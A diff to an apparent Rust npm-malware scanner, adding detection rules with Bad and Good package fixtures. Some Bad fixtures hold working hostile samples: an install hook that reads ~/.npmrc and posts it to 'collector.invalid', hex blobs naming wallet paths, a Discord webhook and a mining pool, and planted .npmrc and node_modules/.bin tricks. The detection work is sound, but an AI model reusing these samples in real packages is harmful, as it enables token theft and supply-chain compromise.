@@ -21,6 +21,7 @@ pub mod collection {
     pub mod keystrokes_sent;
     pub mod metadata_service_queried_unasked;
     pub mod metadata_service_reply_sent;
+    pub mod native_code_knows_secret_places;
     pub mod npm_token_sent_to_network;
     pub mod page_store_sent;
     pub mod private_repositories_copied;
@@ -51,14 +52,17 @@ pub mod disguise {
     pub mod dependency_from_throw_away_host;
     pub mod dependency_from_url_or_git;
     pub mod dependency_nothing_uses;
+    pub mod hook_from_new_publisher;
     pub mod install_hook_hidden_from_registry;
     pub mod look_alike_name;
     pub mod manifest_keys_twice;
     pub mod manifest_name_differs;
     pub mod npmrc_names_program;
+    pub mod package_brings_manager_settings;
     pub mod popular_name_with_word;
     pub mod project_names_throw_away_registry;
     pub mod readme_of_another_package;
+    pub mod release_after_long_silence;
     pub mod repository_of_imitated_project;
     pub mod scope_look_alike;
     pub mod version_far_beyond_line;
@@ -74,6 +78,7 @@ pub mod evasion {
     pub mod date_decides_harm;
     pub mod defence_switched_off;
     pub mod harm_behind_long_wait;
+    pub mod native_code_writes_into_processes;
     pub mod own_code_deleted;
     pub mod own_manifest_rewritten;
     pub mod platform_decides_download;
@@ -97,6 +102,7 @@ pub mod execution {
     pub mod git_dependency_prepares;
     pub mod git_hook_runs_download;
     pub mod hidden_script_host_started;
+    pub mod hook_command_brought_along;
     pub mod inline_program_in_hook;
     pub mod install_hook_never_before;
     pub mod install_hook_runs_code;
@@ -119,6 +125,7 @@ pub mod exfiltration {
     pub mod host_facts_seen_leaving;
     pub mod host_facts_sent_at_import;
     pub mod host_facts_sent_at_install;
+    pub mod native_code_names_throw_away_host;
     pub mod private_key_seen_leaving;
     pub mod remote_commands_over_socket;
     pub mod secret_enciphered_before_sending;
@@ -137,6 +144,7 @@ pub mod impact {
     pub mod files_overwritten_widely;
     pub mod home_folder_deleted;
     pub mod machine_stopped;
+    pub mod native_code_mines_coins;
     pub mod payment_seen_redirected;
     pub mod request_function_replaced;
     pub mod reverse_shell_opened;
@@ -228,6 +236,7 @@ pub mod staging {
     pub mod forge_search_reply_run;
     pub mod hidden_module_name;
     pub mod host_facts_answered_with_code;
+    pub mod native_code_holds_attack_command;
     pub mod native_code_loaded_at_install;
     pub mod native_code_loaded_under_other_name;
     pub mod network_program_seen_running;
@@ -257,6 +266,7 @@ pub static RULES: &[&dyn Rule] = &[
     &collection::keystrokes_sent::KeystrokesSent,
     &collection::metadata_service_queried_unasked::MetadataServiceQueriedUnasked,
     &collection::metadata_service_reply_sent::MetadataServiceReplySent,
+    &collection::native_code_knows_secret_places::NativeCodeKnowsSecretPlaces,
     &collection::npm_token_sent_to_network::NpmTokenSentToNetwork,
     &collection::page_store_sent::PageStoreSent,
     &collection::private_repositories_copied::PrivateRepositoriesCopied,
@@ -282,14 +292,17 @@ pub static RULES: &[&dyn Rule] = &[
     &disguise::dependency_from_throw_away_host::DependencyFromThrowAwayHost,
     &disguise::dependency_from_url_or_git::DependencyFromUrlOrGit,
     &disguise::dependency_nothing_uses::DependencyNothingUses,
+    &disguise::hook_from_new_publisher::HookFromNewPublisher,
     &disguise::install_hook_hidden_from_registry::InstallHookHiddenFromRegistry,
     &disguise::look_alike_name::LookAlikeName,
     &disguise::manifest_keys_twice::ManifestKeysTwice,
     &disguise::manifest_name_differs::ManifestNameDiffers,
     &disguise::npmrc_names_program::NpmrcNamesProgram,
+    &disguise::package_brings_manager_settings::PackageBringsManagerSettings,
     &disguise::popular_name_with_word::PopularNameWithWord,
     &disguise::project_names_throw_away_registry::ProjectNamesThrowAwayRegistry,
     &disguise::readme_of_another_package::ReadmeOfAnotherPackage,
+    &disguise::release_after_long_silence::ReleaseAfterLongSilence,
     &disguise::repository_of_imitated_project::RepositoryOfImitatedProject,
     &disguise::scope_look_alike::ScopeLookAlike,
     &disguise::version_far_beyond_line::VersionFarBeyondLine,
@@ -300,6 +313,7 @@ pub static RULES: &[&dyn Rule] = &[
     &evasion::date_decides_harm::DateDecidesHarm,
     &evasion::defence_switched_off::DefenceSwitchedOff,
     &evasion::harm_behind_long_wait::HarmBehindLongWait,
+    &evasion::native_code_writes_into_processes::NativeCodeWritesIntoProcesses,
     &evasion::own_code_deleted::OwnCodeDeleted,
     &evasion::own_manifest_rewritten::OwnManifestRewritten,
     &evasion::platform_decides_download::PlatformDecidesDownload,
@@ -318,6 +332,7 @@ pub static RULES: &[&dyn Rule] = &[
     &execution::git_dependency_prepares::GitDependencyPrepares,
     &execution::git_hook_runs_download::GitHookRunsDownload,
     &execution::hidden_script_host_started::HiddenScriptHostStarted,
+    &execution::hook_command_brought_along::HookCommandBroughtAlong,
     &execution::inline_program_in_hook::InlineProgramInHook,
     &execution::install_hook_never_before::InstallHookNeverBefore,
     &execution::install_hook_runs_code::InstallHookRunsCode,
@@ -335,6 +350,7 @@ pub static RULES: &[&dyn Rule] = &[
     &exfiltration::host_facts_seen_leaving::HostFactsSeenLeaving,
     &exfiltration::host_facts_sent_at_import::HostFactsSentAtImport,
     &exfiltration::host_facts_sent_at_install::HostFactsSentAtInstall,
+    &exfiltration::native_code_names_throw_away_host::NativeCodeNamesThrowAwayHost,
     &exfiltration::private_key_seen_leaving::PrivateKeySeenLeaving,
     &exfiltration::remote_commands_over_socket::RemoteCommandsOverSocket,
     &exfiltration::secret_enciphered_before_sending::SecretEncipheredBeforeSending,
@@ -348,6 +364,7 @@ pub static RULES: &[&dyn Rule] = &[
     &impact::files_overwritten_widely::FilesOverwrittenWidely,
     &impact::home_folder_deleted::HomeFolderDeleted,
     &impact::machine_stopped::MachineStopped,
+    &impact::native_code_mines_coins::NativeCodeMinesCoins,
     &impact::payment_seen_redirected::PaymentSeenRedirected,
     &impact::request_function_replaced::RequestFunctionReplaced,
     &impact::reverse_shell_opened::ReverseShellOpened,
@@ -409,6 +426,7 @@ pub static RULES: &[&dyn Rule] = &[
     &staging::forge_search_reply_run::ForgeSearchReplyRun,
     &staging::hidden_module_name::HiddenModuleName,
     &staging::host_facts_answered_with_code::HostFactsAnsweredWithCode,
+    &staging::native_code_holds_attack_command::NativeCodeHoldsAttackCommand,
     &staging::native_code_loaded_at_install::NativeCodeLoadedAtInstall,
     &staging::native_code_loaded_under_other_name::NativeCodeLoadedUnderOtherName,
     &staging::network_program_seen_running::NetworkProgramSeenRunning,
@@ -1184,6 +1202,88 @@ exports.credentials = () => fetch("http://169.254.169.254/latest/meta-data/iam/s
 ## References
 
 - Wiz: Shai-Hulud npm Supply Chain Attack (September 2025)
+"#,
+    ),
+    (
+        "native-code-knows-secret-places",
+        r#"# Machine code knows where secrets lie
+
+A native module or program of the package holds the paths of several kinds of secrets: wallets, browsers' stores, key
+stores, sessions, keys, tokens.
+
+## Why it matters
+
+Machine code is the part of a package that nobody reads, and thieves have moved there. The files it opens still stand
+in it as texts, and no add-on has a use for wallets and browsers' passwords together.
+
+## Known benign uses
+
+A whole browser inside a package knows its own stores. Scanners for leaked secrets know the places of tokens, and
+no wallets. One kind of secret alone is not reported: clients of clouds know their credentials.
+
+## Bad
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js
+module.exports = require("./build/Release/addon.node");
+== build/Release/addon.node hex //~ 1
+7f454c4602010100000000000000000003003e0001000000780040000000000040000000000000000000000000000000
+006f70656e002f4c6f67696e2044617461002f4c6f63616c20457874656e73696f6e2053657474696e67732f6e6b6269
+686662656f676165616f65686c65666e6b6f646265666770676b6e6e00
+```
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "scripts": {"preinstall": "./tools/setup"}}
+== tools/setup hex //~ 1
+7f454c4602010100000000000000000003003e0001000000780040000000000040000000000000000000000000000000
+002e7373682f69645f65643235353139002e6177732f63726564656e7469616c73002f2e6e706d7263002e6769742d63
+726564656e7469616c7300
+```
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js
+const file = `./lib/${process.platform}.node`;
+module.exports = require(file);
+== lib/win32.node hex //~ 1
+7f454c4602010100000000000000000003003e0001000000780040000000000040000000000000000000000000000000
+005c00450078006f006400750073005c00650078006f006400750073002e00770061006c006c0065007400005c006400
+6900730063006f00720064005c004c006f00630061006c002000530074006f0072006100670065005c006c0065007600
+65006c006400620000
+```
+
+## Good
+
+```package
+== package.json
+{"name": "aws-crt", "version": "1.0.0", "main": "index.js"}
+== index.js
+module.exports = require("./dist/bin/linux-x64/aws-crt-nodejs.node");
+== dist/bin/linux-x64/aws-crt-nodejs.node hex
+7f454c4602010100000000000000000003003e0001000000780040000000000040000000000000000000000000000000
+007e2f2e6177732f63726564656e7469616c73004157535f50524f46494c4500687474703a2f2f3136392e3235342e31
+36392e32353400
+```
+
+```package
+== package.json
+{"name": "keytar", "version": "1.0.0", "main": "index.js"}
+== index.js
+module.exports = require("bindings")("keytar.node");
+== build/Release/keytar.node hex
+7f454c4602010100000000000000000003003e0001000000780040000000000040000000000000000000000000000000
+007365637265745f70617373776f72645f73746f72655f73796e63006c69627365637265742d312e736f2e30006f7267
+2e667265656465736b746f702e5365637265742e47656e6572696300
+```
+
+## References
+
+- JFrog: IronWorm, a Rust worm in npm packages (June 2026)
+- MITRE ATT&CK T1555, Credentials from Password Stores
 "#,
     ),
     (
@@ -2117,7 +2217,21 @@ console.log("npm");
 console.log("git");
 ```
 
+```package
+== package.json //~ 1
+{"name": "left-pad-utils", "version": "1.0.0", "bin": {"claude": "cli.js"}}
+== cli.js
+console.log("claude");
+```
+
 ## Good
+
+```package
+== package.json
+{"name": "@scope/typescript-fork", "version": "1.0.0", "bin": {"tsc": "tsc.js"}}
+== tsc.js
+console.log("tsc");
+```
 
 ```package
 == package.json
@@ -2466,6 +2580,83 @@ exports.get = require("follow-redirects").https.get;
 "#,
     ),
     (
+        "hook-from-new-publisher",
+        r#"# An account that never published the package adds what runs by itself
+
+The account that published the release had published none of at least three releases before it, and the release brings
+an install hook, or a dependency that no file names, for the first time.
+
+## Why it matters
+
+Who steals or is given an account uses it at once, and what he adds has to run without being asked.
+
+## Known benign uses
+
+A new maintainer who moves the package to a native build. Few documents of registries name accounts, so its noise is
+not measured, and it weighs nothing.
+
+## Bad
+
+```package with packument
+== package.json //~ 1
+{"name": "text-rows", "version": "1.3.0", "scripts": {"preinstall": "node setup.js"}}
+== setup.js
+const fs = require("fs"), os = require("os"), path = require("path"), https = require("https");
+const text = fs.readFileSync(path.join(os.homedir(), ".npmrc"), "utf8");
+const request = https.request({ hostname: "collector.invalid", method: "POST" });
+request.write(text);
+request.end();
+== packument.json
+{"name": "text-rows", "time": {"1.0.0": "2025-01-01T00:00:00Z", "1.1.0": "2025-03-01T00:00:00Z", "1.2.0": "2025-06-01T00:00:00Z", "1.3.0": "2025-09-08T00:00:00Z"},
+  "versions": {"1.0.0": {"_npmUser": {"name": "ann"}}, "1.1.0": {"_npmUser": {"name": "ann"}}, "1.2.0": {"_npmUser": {"name": "ann"}},
+  "1.3.0": {"_id": "a", "name": "text-rows", "version": "1.3.0", "scripts": {"preinstall": "node setup.js"}, "_npmUser": {"name": "eve"},
+    "dist": {"shasum": "da39a3ee5e6b4b0d3255bfef95601890afd80709"}}}}
+```
+
+```package with packument
+== package.json //~ 1
+{"name": "text-rows", "version": "1.3.0", "main": "index.js", "dependencies": {"plain-rows-lite": "^4.2.1"}}
+== index.js
+exports.rows = (text) => text.split("\n");
+== packument.json
+{"name": "text-rows", "time": {"1.0.0": "2025-01-01T00:00:00Z", "1.1.0": "2025-03-01T00:00:00Z", "1.2.0": "2025-06-01T00:00:00Z", "1.3.0": "2025-09-08T00:00:00Z"},
+  "versions": {"1.0.0": {"_npmUser": {"name": "ann"}}, "1.1.0": {"_npmUser": {"name": "ann"}}, "1.2.0": {"_npmUser": {"name": "ann"}},
+  "1.3.0": {"_id": "a", "name": "text-rows", "version": "1.3.0", "dependencies": {"plain-rows-lite": "^4.2.1"}, "main": "index.js", "_npmUser": {"name": "eve"},
+    "dist": {"shasum": "da39a3ee5e6b4b0d3255bfef95601890afd80709"}}}}
+```
+
+## Good
+
+```package with packument
+== package.json
+{"name": "text-rows", "version": "1.3.0", "main": "index.js", "dependencies": {"text-table": "^1.0.0"}}
+== index.js
+exports.rows = (text) => require("text-table")(text.split("\n"));
+== packument.json
+{"name": "text-rows", "time": {"1.0.0": "2025-01-01T00:00:00Z", "1.1.0": "2025-03-01T00:00:00Z", "1.2.0": "2025-06-01T00:00:00Z", "1.3.0": "2025-09-08T00:00:00Z"},
+  "versions": {"1.0.0": {"_npmUser": {"name": "ann"}}, "1.1.0": {"_npmUser": {"name": "ann"}}, "1.2.0": {"_npmUser": {"name": "ann"}},
+  "1.3.0": {"_id": "a", "name": "text-rows", "version": "1.3.0", "dependencies": {"text-table": "^1.0.0"}, "main": "index.js", "_npmUser": {"name": "bob"},
+    "dist": {"shasum": "da39a3ee5e6b4b0d3255bfef95601890afd80709"}}}}
+```
+
+```package with packument
+== package.json
+{"name": "text-rows", "version": "1.3.0", "main": "index.js", "scripts": {"install": "node-gyp-build"}}
+== index.js
+module.exports = require("node-gyp-build")(__dirname);
+== packument.json
+{"name": "text-rows", "time": {"1.0.0": "2025-01-01T00:00:00Z", "1.1.0": "2025-03-01T00:00:00Z", "1.2.0": "2025-06-01T00:00:00Z", "1.3.0": "2025-09-08T00:00:00Z"},
+  "versions": {"1.0.0": {"_npmUser": {"name": "ann"}}, "1.1.0": {"_npmUser": {"name": "ann"}}, "1.2.0": {"_npmUser": {"name": "ann"}},
+  "1.3.0": {"_id": "a", "name": "text-rows", "version": "1.3.0", "scripts": {"install": "node-gyp-build"}, "main": "index.js", "_npmUser": {"name": "ann"},
+    "dist": {"shasum": "da39a3ee5e6b4b0d3255bfef95601890afd80709"}}}}
+```
+
+## References
+
+- ua-parser-js, coa, rc (October 2021); Mastra (June 2026)
+"#,
+    ),
+    (
         "install-hook-hidden-from-registry",
         r#"# The registry does not show a hook that the archive has
 
@@ -2723,6 +2914,66 @@ node-options=--max-old-space-size=4096
 "#,
     ),
     (
+        "package-brings-manager-settings",
+        r#"# A published package brings settings of a package manager
+
+A package from a registry holds an `.npmrc`, `.yarnrc`, `.yarnrc.yml`, `pnpm-workspace.yaml` or `bunfig.toml` at its root
+that names a registry or proxy, switches install scripts on or the checks of secure connections off.
+
+## Why it matters
+
+Publishing leaves `.npmrc` out, so someone put it there. A package manager that a hook starts in the package's folder
+takes its settings from it: what it fetches comes from the host that the package names.
+
+## Known benign uses
+
+None known: no release of the corpora holds such a file with such a setting.
+
+## Bad
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "scripts": {"postinstall": "npm install --no-save left-pad"}}
+== .npmrc
+registry=https://npm.drop.invalid/ #~ here
+```
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node setup.js"}}
+== setup.js
+require("child_process").execSync("npm install --prefix . left-pad");
+== .npmrc
+ignore-scripts=false #~ here
+strict-ssl=false #~ and here
+```
+
+## Good
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node setup.js"}}
+== setup.js
+console.log("thank you");
+== .npmrc
+package-lock=false
+save-exact=true
+```
+
+```package git
+== package.json
+{"name": "x", "version": "1.0.0", "scripts": {"prepare": "tsc"}}
+== .npmrc
+registry=https://npm.acme.invalid/
+```
+
+## References
+
+- GitHub: Changes to git dependencies and `.npmrc` (February 2026)
+- npm: files that publishing leaves out
+"#,
+    ),
+    (
         "popular-name-with-word",
         r#"# The name is a popular name with a word beside it
 
@@ -2790,8 +3041,8 @@ exports.session = () => (request, response, next) => next();
         "project-names-throw-away-registry",
         r#"# The project takes its packages through a throw-away host
 
-Settings of a package manager in the project name a registry or proxy that is a tunnel, a paste store or a hidden
-service.
+Settings of a package manager in the project name a registry or proxy that is a tunnel, a paste store, a hidden
+service or a bare public address.
 
 ## Why it matters
 
@@ -2810,7 +3061,21 @@ Test set-ups that reach a developer's own registry through a tunnel; they do not
 registry=https://d41d8cd9.ngrok-free.app/npm/ #~ here
 ```
 
+```package project
+== package.json
+{"name": "app", "version": "1.0.0"}
+== .npmrc
+registry=http://198.51.100.7:4873/ #~ here
+```
+
 ## Good
+
+```package project
+== package.json
+{"name": "app", "version": "1.0.0"}
+== .npmrc
+registry=http://10.1.2.3:4873/
+```
 
 ```package project
 == package.json
@@ -2880,6 +3145,89 @@ exports.day = (date) => require("lodash").padStart(date.getDate(), 2, "0");
 
 - Socket: cloned READMEs in typosquats (2024 to 2026)
 - the corpora of `eval/`, measured
+"#,
+    ),
+    (
+        "release-after-long-silence",
+        r#"# A package that was silent for a year wakes with something new
+
+At least a year lies between the release and the one before it, and it brings an install hook, a dependency that no file
+names, or an account that had published none of at least three releases before.
+
+## Why it matters
+
+Accounts that nobody watches are taken over, and packages that nobody maintains are handed to whoever asks. The first
+release after the silence is the attacker's.
+
+## Known benign uses
+
+A maintainer who comes back, or a successor. Of 285,195 releases of 4,082 packages, measured in November 2026, 385
+follow a year of silence, and two of these bring a first install hook. It never decides alone.
+
+## Bad
+
+```package with packument
+== package.json //~ 1
+{"name": "text-rows", "version": "1.3.0", "scripts": {"preinstall": "node setup.js"}}
+== setup.js
+const fs = require("fs"), os = require("os"), path = require("path"), https = require("https");
+const text = fs.readFileSync(path.join(os.homedir(), ".npmrc"), "utf8");
+const request = https.request({ hostname: "collector.invalid", method: "POST" });
+request.write(text);
+request.end();
+== packument.json
+{"name": "text-rows", "time": {"1.0.0": "2019-01-01T00:00:00Z", "1.1.0": "2019-03-01T00:00:00Z", "1.2.0": "2019-06-01T00:00:00Z", "1.3.0": "2025-09-08T00:00:00Z"},
+  "versions": {"1.0.0": {}, "1.1.0": {}, "1.2.0": {},
+  "1.3.0": {"_id": "a", "name": "text-rows", "version": "1.3.0", "scripts": {"preinstall": "node setup.js"},
+    "dist": {"shasum": "da39a3ee5e6b4b0d3255bfef95601890afd80709"}}}}
+```
+
+```package with packument
+== package.json //~ 1
+{"name": "text-rows", "version": "1.3.0", "main": "index.js"}
+== index.js
+const fs = require("fs"), os = require("os"), path = require("path"), https = require("https");
+const text = fs.readFileSync(path.join(os.homedir(), ".npmrc"), "utf8");
+const request = https.request({ hostname: "collector.invalid", method: "POST" });
+request.write(text);
+request.end();
+== packument.json
+{"name": "text-rows", "time": {"1.0.0": "2019-01-01T00:00:00Z", "1.1.0": "2019-03-01T00:00:00Z", "1.2.0": "2019-06-01T00:00:00Z", "1.3.0": "2025-09-08T00:00:00Z"},
+  "versions": {"1.0.0": {"_npmUser": {"name": "ann"}}, "1.1.0": {"_npmUser": {"name": "ann"}}, "1.2.0": {"_npmUser": {"name": "ann"}},
+  "1.3.0": {"_id": "a", "name": "text-rows", "version": "1.3.0", "main": "index.js", "_npmUser": {"name": "eve"},
+    "dist": {"shasum": "da39a3ee5e6b4b0d3255bfef95601890afd80709"}}}}
+```
+
+## Good
+
+```package with packument
+== package.json
+{"name": "text-rows", "version": "1.3.0", "main": "index.js"}
+== index.js
+exports.rows = (text) => text.split("\n");
+== packument.json
+{"name": "text-rows", "time": {"1.0.0": "2019-01-01T00:00:00Z", "1.1.0": "2019-03-01T00:00:00Z", "1.2.0": "2019-06-01T00:00:00Z", "1.3.0": "2025-09-08T00:00:00Z"},
+  "versions": {"1.0.0": {"_npmUser": {"name": "ann"}}, "1.1.0": {"_npmUser": {"name": "ann"}}, "1.2.0": {"_npmUser": {"name": "ann"}},
+  "1.3.0": {"_id": "a", "name": "text-rows", "version": "1.3.0", "main": "index.js", "_npmUser": {"name": "ann"},
+    "dist": {"shasum": "da39a3ee5e6b4b0d3255bfef95601890afd80709"}}}}
+```
+
+```package with packument
+== package.json
+{"name": "text-rows", "version": "1.3.0", "main": "index.js"}
+== index.js
+exports.rows = (text) => text.split("\n");
+== packument.json
+{"name": "text-rows", "time": {"1.0.0": "2025-01-01T00:00:00Z", "1.1.0": "2025-03-01T00:00:00Z", "1.2.0": "2025-06-01T00:00:00Z", "1.3.0": "2025-09-08T00:00:00Z"},
+  "versions": {"1.0.0": {"_npmUser": {"name": "ann"}}, "1.1.0": {"_npmUser": {"name": "ann"}}, "1.2.0": {"_npmUser": {"name": "ann"}},
+  "1.3.0": {"_id": "a", "name": "text-rows", "version": "1.3.0", "main": "index.js", "_npmUser": {"name": "bob"},
+    "dist": {"shasum": "da39a3ee5e6b4b0d3255bfef95601890afd80709"}}}}
+```
+
+## References
+
+- event-stream: the handover of a package that nobody maintained (November 2018)
+- the registry's documents, measured
 "#,
     ),
     (
@@ -3429,6 +3777,91 @@ exports.run = (command) => require("child_process").execFileSync(command);
 ## References
 
 - Socket: destructive packages with delays (2025)
+"#,
+    ),
+    (
+        "native-code-writes-into-processes",
+        r#"# Machine code writes into other programs and makes them run it
+
+A native module or program of the package takes the system's functions that write into another process's memory, and one
+of those that make a thread of it run there.
+
+## Why it matters
+
+Code that has been moved into a program everybody trusts is not stopped with the package, and its deeds are the other
+program's. No add-on needs it.
+
+## Known benign uses
+
+Debuggers, and whole browsers, which start parts of themselves so: of 106 programs and libraries for Windows in honest
+packages none takes both. It never decides alone.
+
+## Bad
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js
+require("./addon.node");
+require("https").get("https://stats.invalid/?h=" + require("os").hostname());
+== addon.node hex //~ 1
+4d5a00000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000
+000000000000000000000000400000005045000064860100000000000000000000000000f00022200b02000000000000
+000000000000000000000000000000000000000000000000001000000002000000000000000000000000000000000000
+002000000002000000000000000000000000000000000000000000000000000000000000000000000000000000000000
+000000001000000000000000000000000010000028000000000000000000000000000000000000000000000000000000
+000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000
+000000000000000000000000000000000000000000000000000000000000000000000000000000002e72646174610000
+000200000010000000020000000200000000000000000000000000004000004000000000000000000000000000000000
+000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000
+000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000
+000000000000000000000000000000000000000000000000000000000000000040100000000000000000000080100000
+601000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000
+90100000000000009e10000000000000b410000000000000000000000000000000000000000000000000000000000000
+000000000000000000000000000000004b45524e454c33322e646c6c0000000000004f70656e50726f63657373000000
+577269746550726f636573734d656d6f72790000000043726561746552656d6f74655468726561640000000000000000
+000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000
+000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000
+000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000
+000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000
+000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000
+000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000
+00000000000000000000000000000000
+```
+
+## Good
+
+```package
+== package.json
+{"name": "windows-kill", "version": "1.0.0", "bin": {"windows-kill": "kill.exe"}}
+== kill.exe hex
+4d5a00000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000
+000000000000000000000000400000005045000064860100000000000000000000000000f00022200b02000000000000
+000000000000000000000000000000000000000000000000001000000002000000000000000000000000000000000000
+002000000002000000000000000000000000000000000000000000000000000000000000000000000000000000000000
+000000001000000000000000000000000010000028000000000000000000000000000000000000000000000000000000
+000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000
+000000000000000000000000000000000000000000000000000000000000000000000000000000002e72646174610000
+000200000010000000020000000200000000000000000000000000004000004000000000000000000000000000000000
+000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000
+000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000
+000000000000000000000000000000000000000000000000000000000000000040100000000000000000000080100000
+601000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000
+90100000000000009e100000000000000000000000000000000000000000000000000000000000000000000000000000
+000000000000000000000000000000004b45524e454c33322e646c6c00000000000043726561746546696c6557000000
+43726561746552656d6f7465546872656164000000000000000000000000000000000000000000000000000000000000
+000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000
+000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000
+000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000
+000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000
+000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000
+000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000
+00000000000000000000000000000000
+```
+
+## References
+
+- MITRE ATT&CK T1055, Process Injection
 "#,
     ),
     (
@@ -4311,6 +4744,70 @@ exports.version = () => execFileSync("powershell", ["-NoProfile", "-Command", "$
 "#,
     ),
     (
+        "hook-command-brought-along",
+        r#"# A hook starts a command that the package brought in `node_modules/.bin`
+
+An install hook calls a command by its bare name, and the package itself holds a file of that name in
+`node_modules/.bin`, which stands before every other command of that name.
+
+## Why it matters
+
+Publishing leaves `node_modules/.bin` out, so someone put the file there. `node-gyp rebuild` in the manifest then means
+a file that no reader of the manifest thinks of.
+
+## Known benign uses
+
+None known: no release of the corpora holds the folder.
+
+## Bad
+
+```package
+== package.json //~ 1
+{"name": "x", "version": "1.0.0", "scripts": {"install": "node-gyp rebuild"}}
+== node_modules/.bin/node-gyp
+#!/bin/sh
+exec ./build.out
+```
+
+```package
+== package.json //~ 1
+{"name": "x", "version": "1.0.0", "main": "index.js", "scripts": {"postinstall": "prebuild-install || node-gyp rebuild"}}
+== index.js
+module.exports = require("bindings")("x");
+== node_modules/.bin/prebuild-install
+#!/usr/bin/env node
+require("../../index.js");
+```
+
+## Good
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "scripts": {"install": "node-gyp rebuild"}, "bundleDependencies": ["a"], "dependencies": {"a": "1"}}
+== binding.gyp
+{"targets": [{"target_name": "x", "sources": ["x.cc"]}]}
+== x.cc
+int main() { return 0; }
+== node_modules/a/package.json
+{"name": "a", "version": "1.0.0", "main": "a.js"}
+== node_modules/a/a.js
+module.exports = 1;
+```
+
+```package project
+== package.json
+{"name": "app", "version": "1.0.0", "scripts": {"postinstall": "husky"}}
+== node_modules/.bin/husky
+#!/usr/bin/env node
+console.log("husky");
+```
+
+## References
+
+- npm: the PATH of lifecycle scripts
+"#,
+    ),
+    (
         "inline-program-in-hook",
         r#"# A hook holds a program that reaches out
 
@@ -5131,6 +5628,59 @@ fetch("https://downloads.x.example/" + os.platform() + "-" + os.arch(), { header
 "#,
     ),
     (
+        "native-code-names-throw-away-host",
+        r#"# Machine code names a host for throw-away use
+
+A native module or program of the package holds the address of a messenger's hook with its token, of a tunnel, or of a
+bare public address with a port of its own.
+
+## Why it matters
+
+Add-ons compute; the few that talk to a host talk to their vendor's, by name. An address that anybody can have in a
+minute and give up in another is where stolen data goes and commands come from.
+
+## Known benign uses
+
+None known: resolvers name bare addresses without a port, debuggers the own machine.
+
+## Bad
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js
+module.exports = require("./addon.node");
+== addon.node hex //~ 1
+7f454c4602010100000000000000000003003e0001000000780040000000000040000000000000000000000000000000
+006c69626375726c2e736f2e340068747470733a2f2f646973636f72642e636f6d2f6170692f776562686f6f6b732f31
+32333435363738393031323334353637382f74306b336e00
+```
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "bin": {"x": "bin/x"}}
+== bin/x hex //~ 1
+7f454c4602010100000000000000000003003e0001000000780040000000000040000000000000000000000000000000
+00636f6e6e65637400687474703a2f2f3139382e35312e3130302e32303a313232342f6b65797300
+```
+
+## Good
+
+```package
+== package.json
+{"name": "workerd", "version": "1.0.0", "bin": {"workerd": "bin/workerd"}}
+== bin/workerd hex
+7f454c4602010100000000000000000003003e0001000000780040000000000040000000000000000000000000000000
+00687474703a2f2f3132372e302e302e313a393232392f6a736f6e0068747470733a2f2f312e312e312e312f646e732d
+71756572790068747470733a2f2f686f6f6b732e736c61636b2e636f6d2f73657276696365732f00
+```
+
+## References
+
+- MITRE ATT&CK T1567, Exfiltration Over Web Service
+"#,
+    ),
+    (
         "private-key-seen-leaving",
         r#"# A private key or stored password is seen leaving
 
@@ -5803,6 +6353,59 @@ exports.shutdown = () => require("child_process").execFile("shutdown", ["-h", "n
 ## References
 
 - Socket: destructive packages of 2025
+"#,
+    ),
+    (
+        "native-code-mines-coins",
+        r#"# Machine code talks to a mining pool
+
+A native module or program of the package holds the address of a mining pool in the pools' own protocol.
+
+## Why it matters
+
+Nothing but a miner speaks it. A miner inside a library spends its users' machines and money.
+
+## Known benign uses
+
+Packages whose purpose is mining, which nobody has among the dependencies of something else.
+
+## Bad
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js
+module.exports = require("./addon.node");
+== addon.node hex //~ 1
+7f454c4602010100000000000000000003003e0001000000780040000000000040000000000000000000000000000000
+0072616e646f6d78007374726174756d2b7463703a2f2f706f6f6c2e696e76616c69643a3333333300
+```
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js
+const fs = require("fs");
+WebAssembly.instantiate(fs.readFileSync(__dirname + "/hash.wasm"), {});
+== hash.wasm hex //~ 1
+0061736d0100000000007374726174756d2b73736c3a2f2f706f6f6c2e696e76616c69643a34343300
+```
+
+## Good
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js
+module.exports = require("bindings")("multihashing");
+== build/Release/multihashing.node hex
+7f454c4602010100000000000000000003003e0001000000780040000000000040000000000000000000000000000000
+0072616e646f6d785f63616c63756c6174655f686173680063727970746f6e6967687400
+```
+
+## References
+
+- MITRE ATT&CK T1496, Resource Hijacking
 "#,
     ),
     (
@@ -9037,6 +9640,73 @@ exports.flags = async (key) => {
 "#,
     ),
     (
+        "native-code-holds-attack-command",
